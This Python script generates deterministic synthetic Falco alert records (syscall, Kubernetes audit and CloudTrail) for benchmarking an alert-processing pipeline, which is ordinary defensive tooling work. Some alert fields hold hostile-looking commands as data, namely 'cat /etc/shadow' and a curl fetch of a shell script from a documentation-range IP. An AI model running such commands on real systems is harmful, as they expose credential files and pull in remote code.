#!/usr/bin/env python3
"""Writes N synthetic Falco alerts (NDJSON, about 800 bytes each) with varied rules, sources and fields, for
`make bench`. Deterministic: the same N gives the same file. Usage: generate.py N OUT"""
import json, random, sys

n, out = int(sys.argv[1]), sys.argv[2]
rng = random.Random(42)
start = 1_796_324_400_000_000_000
images = ['registry.example.com/shop/web', 'registry.example.com/shop/billing', 'docker.io/library/nginx',
          'ghcr.io/example/ci-tools', 'docker.io/library/python']
syscall = [
    ('Terminal shell in container', 'Notice', ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
     lambda i: {'proc.name': 'bash', 'proc.cmdline': 'bash', 'proc.exepath': '/bin/bash', 'proc.pname': 'runc',
                'proc.tty': 34816, 'evt.type': 'execve', 'evt.arg.flags': 'EXE_LOWER_LAYER'}),
    ('Read sensitive file untrusted', 'Warning', ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access'],
     lambda i: {'proc.name': 'cat', 'proc.cmdline': 'cat /etc/shadow', 'proc.exepath': '/bin/cat', 'proc.pname': 'bash',
                'fd.name': rng.choice(['/etc/shadow', '/etc/sudoers', '/etc/pam.d/common-auth']), 'proc.tty': 0,
                'evt.type': 'openat', 'proc.aname[2]': 'sshd', 'proc.aname[3]': 'systemd'}),
    ('PTRACE attached to process', 'Warning', ['T1055.008', 'container', 'host', 'maturity_stable', 'mitre_privilege_escalation', 'process'],
     lambda i: {'proc.name': 'gdb', 'proc.cmdline': f'gdb -p {1000 + i % 5000}', 'proc.exepath': '/usr/bin/gdb',
                'proc.pname': 'bash', 'proc.pcmdline': 'bash', 'proc.tty': 34817, 'evt.type': 'ptrace'}),
    ('Contact K8S API Server From Container', 'Notice', ['T1565', 'container', 'k8s', 'maturity_stable', 'mitre_discovery', 'network'],
     lambda i: {'proc.name': 'kubectl', 'proc.cmdline': 'kubectl get pods -A', 'proc.exepath': '/usr/local/bin/kubectl',
                'proc.pname': 'sh', 'fd.name': f'10.42.0.{i % 250}:{30000 + i % 20000}->10.43.0.1:443', 'fd.lport': 30000 + i % 20000,
                'fd.rport': 443, 'fd.type': 'ipv4', 'fd.l4proto': 'tcp', 'evt.type': 'connect', 'proc.tty': 0}),
    ('Custom rule nobody wrote a playbook for', 'Error', ['T1105', 'mitre_command_and_control'],
     lambda i: {'proc.name': 'curl', 'proc.cmdline': f'curl -s http://198.51.100.{i % 200}/x.sh', 'proc.exepath': '/usr/bin/curl',
                'proc.pname': 'sh', 'proc.pid': 20000 + i % 30000, 'proc.ppid': 19999, 'evt.type': 'execve', 'proc.tty': 0}),
]

def syscall_alert(i, t):
    rule, priority, tags, extra = rng.choice(syscall)
    fields = {'evt.time': t, 'user.name': rng.choice(['root', 'app', 'www-data']), 'user.uid': rng.choice([0, 1000, 33]),
              'user.loginuid': rng.choice([-1, 1000, 1001])}
    if rng.random() < 0.7:
        image = rng.choice(images)
        pod = f'{image.rsplit("/", 1)[-1]}-{rng.randrange(40):02d}'
        fields.update({'container.id': f'{rng.randrange(16**12):012x}', 'container.name': pod.split('-')[0],
                       'container.image.repository': image, 'container.image.tag': '1.2.3',
                       'k8s.ns.name': rng.choice(['shop', 'ci', 'default']), 'k8s.pod.name': pod})
    else:
        fields.update({'container.id': 'host', 'container.name': 'host'})
    fields.update(extra(i))
    out = ' '.join(f'{k}={v}' for k, v in list(fields.items())[:8])
    return {'hostname': f'node-{i % 16}', 'output': f'{t}: {priority} {rule} | {out}', 'output_fields': fields,
            'priority': priority, 'rule': rule, 'source': 'syscall', 'tags': tags}

def audit_alert(i, t):
    user = rng.choice(['alice@example.com', 'system:serviceaccount:ci:deployer', 'bob@example.com'])
    fields = {'evt.time': t, 'ka.user.name': user, 'ka.target.namespace': rng.choice(['shop', 'ci']),
              'ka.target.name': f'web-{rng.randrange(40)}', 'ka.target.resource': 'pods', 'ka.target.subresource': 'exec',
              'ka.uri.param[command]': rng.choice(['sh', 'bash', 'ls']), 'ka.verb': 'create', 'ka.response.code': '101'}
    return {'hostname': 'k8s-audit', 'output': f'{t}: Notice Attach/Exec to pod (user={user} pod={fields["ka.target.name"]})',
            'output_fields': fields, 'priority': 'Notice', 'rule': 'Attach/Exec Pod', 'source': 'k8s_audit', 'tags': ['k8s']}

def cloud_alert(i, t):
    user = rng.choice(['deploy-bot', 'alice', 'ci-role'])
    fields = {'evt.time': t, 'ct.user': user, 'ct.srcip': f'198.51.100.{i % 250}', 'ct.region': rng.choice(['eu-west-1', 'us-east-1']),
              'ct.request.name': f'trail-{i % 7}'}
    return {'hostname': 'cloudtrail', 'output': f'{t}: Warning The CloudTrail logging has been disabled (requesting user={user})',
            'output_fields': fields, 'priority': 'Warning', 'rule': 'CloudTrail Logging Disabled', 'source': 'aws_cloudtrail',
            'tags': ['cloud', 'aws', 'aws_cloudtrail']}

with open(out, 'w') as f:
    for i in range(n):
        t = start + i * 250_000_000 + rng.randrange(1_000_000)
        r = rng.random()
        alert = syscall_alert(i, t) if r < 0.8 else audit_alert(i, t) if r < 0.9 else cloud_alert(i, t)
        seconds, nanos = divmod(t, 1_000_000_000)
        import datetime
        alert['time'] = datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc).strftime('%Y-%m-%dT%H:%M:%S') + f'.{nanos:09d}Z'
        f.write(json.dumps(alert, separators=(',', ':')) + '\n')
